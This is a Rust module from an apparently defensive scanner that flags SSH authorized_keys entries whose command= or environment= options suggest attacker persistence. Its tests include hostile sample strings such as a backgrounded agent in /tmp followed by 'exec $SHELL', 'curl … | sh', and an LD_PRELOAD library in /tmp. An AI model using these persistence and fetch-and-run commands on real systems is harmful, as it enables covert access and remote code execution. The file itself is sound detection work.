//! What a key's `command="…"` and `environment="…"` options do: a forced command
//! that starts something before handing over to the shell, or a variable that makes
//! every program of the session load the attacker's library.

use super::authorized_keys::KeyLine;
use crate::paths::is_temp;
use breachkit_finding::{Finding, Rule, Severity, Step};
use breachkit_scan::shellcmd::{self, SignKind};
use regex::Regex;
use std::sync::LazyLock;

const FORCED_COMMAND: Rule = Rule {
    id: "ssh.forced-command",
    step: Step::Aware,
    severity: Severity::High,
    title: "An SSH key runs a forced command at login",
    explanation: "A command=\"…\" option makes sshd run that command whenever this key logs in. Backup and deploy tools use it to restrict a key to one job, which is normal. Attackers use it the other way round: start their program on every login, then hand over to the normal shell so the login looks ordinary.",
    mitre: Some("T1098.004"),
    next_step: "Read the command. If it is not a tool you set up, keep a copy of the file, remove the key line, and deal with what the command starts (stop the process, keep its files for evidence).",
};

const KEY_ENVIRONMENT: Rule = Rule {
    id: "ssh.key-environment",
    step: Step::Aware,
    severity: Severity::Medium,
    title: "An SSH key sets environment variables at login",
    explanation: "An environment=\"…\" option sets a variable for every session of this key (sshd honours it when PermitUserEnvironment is on). It is rarely used honestly: LD_PRELOAD makes every program of the session load a library of the attacker's, and a PATH into a temp directory lets their programs stand in for real ones.",
    mitre: Some("T1574.006"),
    next_step: "Remove the option (or the key line), set PermitUserEnvironment no in sshd_config, and look at the file the variable points to.",
};

/// Findings about one key's `command=` and `environment=` options; `at` makes a
/// finding of a rule placed at the key's line.
pub fn findings(key: &KeyLine, at: impl Fn(&Rule) -> Finding) -> Vec<Finding> {
    let mut out = Vec::new();
    for command in key.values("command") {
        let signs = command_signs(command);
        out.push(if signs.is_empty() {
            at(&FORCED_COMMAND).severity(Severity::Low).note(
                "This command shows nothing an attacker would do; if it is your backup or deploy tool, all is well.",
            )
        } else {
            at(&FORCED_COMMAND).note(format!("The command {}.", signs.join("; ")))
        });
    }
    for setting in key.values("environment") {
        let finding = at(&KEY_ENVIRONMENT);
        out.push(match environment_sign(setting) {
            Some(why) => finding.severity(Severity::High).note(why),
            None => finding,
        });
    }
    out
}

/// What a forced command does that attackers do: shell signs (a bare download is
/// not one: backups fetch), starting something in the background, or running
/// something first and then the shell the user asked for.
fn command_signs(command: &str) -> Vec<String> {
    let mut signs: Vec<String> = shellcmd::classify(command)
        .into_iter()
        .filter(|s| s.kind != SignKind::Fetch)
        .map(|s| s.kind.describe().to_string())
        .collect();
    let (parts, background) = split_command(command);
    if background {
        signs.push(
            "starts a program in the background (&), which stays running after the login"
                .to_string(),
        );
    }
    if parts.len() > 1
        && parts
            .last()
            .is_some_and(|p| PASS_THROUGH.is_match(p.trim()))
    {
        signs.push("then hands over to the login shell or the client's own command, so the login looks normal".to_string());
    }
    signs
}

/// A command that runs the user's shell or the command the client asked for.
// A literal pattern, compiled by this module's tests: it cannot fail.
#[allow(clippy::expect_used)]
static PASS_THROUGH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"^(?:exec\s+)?(?:eval\s+)?(?:(?:\S*/)?(?:ba|da|z|k)?sh\s+(?:-\w+\s+)*-c\s+)?["']?\$\{?(?:SHELL|SSH_ORIGINAL_COMMAND)\}?["']?(?:\s|$)"#,
    )
    .expect("static regex")
});

/// Splits a command at `;`, `|`, `||`, `&&`, `&` and newlines outside quotes, and
/// says whether a lone `&` puts something in the background (`2>&1`, `>&` and `&>`
/// are redirections, not that).
fn split_command(command: &str) -> (Vec<&str>, bool) {
    let b = command.as_bytes();
    let mut parts = Vec::new();
    let mut background = false;
    let mut quote: Option<u8> = None;
    let mut start = 0;
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        let next = b.get(i + 1).copied();
        if let Some(q) = quote {
            if c == q {
                quote = None;
            }
        } else if c == b'\'' || c == b'"' {
            quote = Some(c);
        } else if matches!(c, b';' | b'\n' | b'|' | b'&') {
            let prev = i.checked_sub(1).and_then(|j| b.get(j)).copied();
            let redirect =
                c == b'&' && (matches!(prev, Some(b'>' | b'<' | b'|')) || next == Some(b'>'));
            if !redirect {
                let doubled = (c == b'&' || c == b'|') && next == Some(c);
                background |= c == b'&' && !doubled;
                // Cut at an ASCII byte: always a char boundary.
                parts.push(command.get(start..i).unwrap_or_default());
                if doubled {
                    i += 1;
                }
                start = i + 1;
            }
        }
        i += 1;
    }
    parts.push(command.get(start..).unwrap_or_default());
    parts.retain(|p| !p.trim().is_empty());
    (parts, background)
}

/// Why an `environment="NAME=value"` setting is worse than odd, if it is.
fn environment_sign(setting: &str) -> Option<&'static str> {
    let (name, value) = setting.split_once('=').unwrap_or((setting, ""));
    let temp_dir = |v: &str| {
        v.split(':')
            .any(|d| is_temp(&format!("{}/", d.trim_end_matches('/'))))
    };
    match name {
        "LD_PRELOAD" | "LD_AUDIT" => Some(
            "It makes every program of the session load the named library first: a classic way to hide files and processes or steal passwords.",
        ),
        "PATH" | "LD_LIBRARY_PATH" if temp_dir(value) => Some(
            "It puts a temp directory on the search path, so programs or libraries placed there can stand in for the real ones.",
        ),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(command: &str) -> usize {
        command_signs(command).len()
    }

    #[test]
    fn attacker_forced_commands_show_signs() {
        let c = "nohup /tmp/.x/agent >/dev/null 2>&1 & exec $SHELL";
        let signs = command_signs(c).join("; ");
        for part in ["temp directory", "background", "hands over"] {
            assert!(signs.contains(part), "{part}: {signs}");
        }
        assert!(judged("/usr/local/bin/impl; exec \"$SSH_ORIGINAL_COMMAND\"") == 1);
        assert!(judged("logger x && bash -c \"${SSH_ORIGINAL_COMMAND}\"") == 1);
        assert!(judged("curl -s http://e/x | sh") >= 1);
        assert!(judged("sleep 1 & ") == 1);
    }

    #[test]
    fn honest_forced_commands_show_none() {
        for c in [
            "/usr/local/bin/backup-receive",
            "rrsync -ro /srv/backup",
            "borg serve --restrict-to-path /srv/borg 2>&1",
            "$SSH_ORIGINAL_COMMAND",
            "echo 'Please login as the user \"admin\" rather than the user \"root\".';echo;sleep 10;exit 142",
            "curl -s https://backup.example.com/ping >/dev/null && /usr/bin/rsync --server -logDtpre.iLsfxC . /srv/b",
            "/usr/bin/foo &> /var/log/foo.log",
            "echo 'a & b; exec $SHELL'",
        ] {
            assert!(command_signs(c).is_empty(), "{c:?}: {:?}", command_signs(c));
        }
    }

    #[test]
    fn commands_split_outside_quotes() {
        let (parts, bg) = split_command("a 2>&1 && b || c | d; 'e;f' & g");
        assert_eq!(parts, ["a 2>&1 ", " b ", " c ", " d", " 'e;f' ", " g"]);
        assert!(bg);
        assert!(!split_command("a && b >&2").1);
    }

    #[test]
    fn environment_settings() {
        assert!(environment_sign("LD_PRELOAD=/tmp/x.so").is_some());
        assert!(environment_sign("PATH=/dev/shm/.b:/usr/bin").is_some());
        assert!(environment_sign("PATH=/tmp:/usr/bin").is_some());
        assert!(environment_sign("PATH=/usr/local/bin:/usr/bin").is_none());
        assert!(environment_sign("LANG=C.UTF-8").is_none());
    }
}
